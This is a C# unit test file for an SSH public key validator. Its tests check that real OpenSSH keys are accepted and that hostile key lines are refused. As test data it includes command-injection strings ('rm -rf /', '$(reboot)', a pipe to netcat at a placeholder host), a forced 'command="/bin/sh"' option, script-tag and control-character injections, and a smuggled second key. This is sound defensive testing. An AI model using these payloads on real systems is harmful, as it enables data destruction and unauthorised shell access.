using NodeAgent.Contract;
using NodeAgent.Tests.Support;

namespace NodeAgent.Tests.Contract;

/// <summary>The SSH key rules that ws and the scheduler share: real OpenSSH keys pass, hostile lines do not.</summary>
public sealed class SshKeySyntaxTests : IDisposable
{
    private readonly TempDirectory _directory = new();

    public void Dispose() => _directory.Dispose();

    [Theory]
    [InlineData("ed25519", null)]
    [InlineData("rsa", 2048)]
    [InlineData("ecdsa", 256)]
    [InlineData("ecdsa", 384)]
    [InlineData("ecdsa", 521)]
    public void IsValid_KeyMadeBySshKeygen_Accepted(string type, int? bits)
    {
        var line = File.ReadAllText(SshKeys.Generate(_directory.Path, $"id_{type}{bits}", type, "alice@lab-laptop", bits)).TrimEnd('\n');

        var valid = SshKeySyntax.IsValid(line, out var problem);

        Assert.True(valid, problem);
    }

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    public void IsValid_Empty_Refused(string key) => Assert.False(SshKeySyntax.IsValid(key, out _));

    [Fact]
    public void IsValid_NoComment_Accepted() => Assert.True(SshKeySyntax.IsValid(SshKeys.Ed25519(comment: string.Empty), out _));

    [Theory]
    [InlineData("\n", "line break")]
    [InlineData("\r", "line break")]
    [InlineData("\0", "control character")]
    [InlineData("\u001b[2J", "control character")]
    [InlineData("\u202e", "control character")]
    [InlineData("\u2028", "control character")]
    public void IsValid_ControlCharacterInComment_RefusedNamingIt(string hostile, string expected)
    {
        var valid = SshKeySyntax.IsValid(SshKeys.Ed25519("alice" + hostile + "ssh-rsa AAAA evil"), out var problem);

        Assert.False(valid);
        Assert.Contains(expected, problem, StringComparison.Ordinal);
        Assert.DoesNotContain(hostile, problem, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("alice; rm -rf /")]
    [InlineData("$(reboot)")]
    [InlineData("`id`")]
    [InlineData("</key><script>")]
    [InlineData("a&b")]
    [InlineData("\"quoted\"")]
    [InlineData("it's")]
    [InlineData("x | nc evil 1")]
    [InlineData("{{ template }}")]
    public void IsValid_MetacharactersInComment_Refused(string comment)
    {
        var valid = SshKeySyntax.IsValid(SshKeys.Ed25519(comment), out var problem);

        Assert.False(valid);
        Assert.Contains("comment", problem, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("alice@lab-laptop")]
    [InlineData("Alice Müller (work) 2024-01-01")]
    [InlineData("key#2 ~/.ssh/id_ed25519 a+b=c:d,e/f[g]")]
    public void IsValid_OrdinaryComments_Accepted(string comment) => Assert.True(SshKeySyntax.IsValid(SshKeys.Ed25519(comment), out var problem), problem);

    [Theory]
    [InlineData("ssh-dss", "type")]
    [InlineData("command=\"/bin/sh\"", "options")]
    [InlineData("SSH-ED25519", "type")]
    public void IsValid_UnknownTypeOrOptions_Refused(string type, string expected)
    {
        var valid = SshKeySyntax.IsValid(SshKeys.Line(type, "ssh-ed25519"), out var problem);

        Assert.False(valid);
        Assert.Contains(expected, problem, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("ssh-ed25519 not*base64 alice")]
    [InlineData("ssh-ed25519 AAAA$(id) alice")]
    [InlineData("ssh-ed25519 QUFB alice")]
    [InlineData("ssh-ed25519  AAAAC3NzaC1lZDI1NTE5 alice")]
    [InlineData("ssh-ed25519")]
    public void IsValid_BadKeyData_Refused(string line) => Assert.False(SshKeySyntax.IsValid(line, out _));

    [Fact]
    public void IsValid_DataOfAnotherType_RefusedSayingSo()
    {
        var valid = SshKeySyntax.IsValid(SshKeys.Line("ssh-ed25519", "ssh-rsa"), out var problem);

        Assert.False(valid);
        Assert.Contains("not an OpenSSH 'ssh-ed25519' public key", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void IsValid_LengthFieldPastTheData_RefusedWithoutThrowing()
    {
        var line = "ssh-ed25519 " + Convert.ToBase64String([0xff, 0xff, 0xff, 0xff, 1, 2, 3]);

        Assert.False(SshKeySyntax.IsValid(line, out _));
    }

    [Fact]
    public void IsValid_Huge_RefusedNamingTheLimit()
    {
        var huge = SshKeys.Ed25519(new string('a', 1 << 20));

        var valid = SshKeySyntax.IsValid(huge, out var problem);

        Assert.False(valid);
        Assert.Contains("8192", problem, StringComparison.Ordinal);
    }
}
